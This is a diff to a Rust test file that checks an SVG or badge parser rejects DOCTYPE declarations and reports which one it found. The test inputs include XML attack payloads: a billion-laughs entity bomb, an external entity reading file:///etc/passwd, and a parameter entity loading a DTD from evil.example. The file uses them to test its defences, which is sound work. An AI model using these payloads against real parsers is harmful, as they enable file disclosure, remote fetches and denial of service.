@@ -427,20 +427,44 @@ fn a_document_type_may_be_named_and_may_declare_nothing() {
         write!(laughs, "<!ENTITY e{level} '{inner}'>").unwrap();
     }
     let before = Instant::now();
-    for head in [
-        format!("{laughs}]>"),
-        "<!DOCTYPE svg [<!ENTITY e9 SYSTEM 'file:///etc/passwd'>]>".to_owned(),
-        "<!DOCTYPE svg [<!ENTITY % p SYSTEM 'https://evil.example/dtd'> %p;]>".to_owned(),
-        "<!DOCTYPE svg [<!ATTLIST svg verify CDATA 'a.b.c'>]>".to_owned(),
-        String::new(),
+    let harmless = format!(
+        "<old:assertion xmlns:old='{OB2}'>{}</old:assertion>",
+        assertion()
+    );
+    for (head, declared) in [
+        (format!("{laughs}]>"), "<!ENTITY"),
+        (
+            "<!DOCTYPE svg [<!ENTITY e9 SYSTEM 'file:///etc/passwd'>]>".to_owned(),
+            "<!ENTITY",
+        ),
+        (
+            "<!DOCTYPE svg [<!ENTITY % p SYSTEM 'https://evil.example/d'> %p;]>".to_owned(),
+            "<!ENTITY",
+        ),
+        (
+            "<!DOCTYPE svg [<!ATTLIST svg verify CDATA 'a.b.c'>]>".to_owned(),
+            "<!ATTLIST",
+        ),
+        (
+            "<!DOCTYPE svg [<!ELEMENT svg ANY>]>".to_owned(),
+            "<!ELEMENT",
+        ),
     ] {
-        let image = format!("{head}<svg>{badge}</svg>");
-        assert!(
-            matches!(refused(image), BakedError::Damaged { .. }),
-            "{head}"
-        );
+        for badge in [&badge, &harmless] {
+            let BakedError::Damaged { found, .. } = refused(format!("{head}<svg>{badge}</svg>"))
+            else {
+                panic!("{head}");
+            };
+            assert_eq!(found, format!("a declaration `{declared}`"));
+        }
     }
     assert!(before.elapsed() < PATIENCE);
+    // An entity that nobody declared is a fault; without any the same image opens.
+    assert!(matches!(
+        refused(format!("<svg>{badge}</svg>")),
+        BakedError::Damaged { .. }
+    ));
+    assert_eq!(kind(format!("<svg>{harmless}</svg>")).1, Form::Hosted);
 }
 
 #[test]
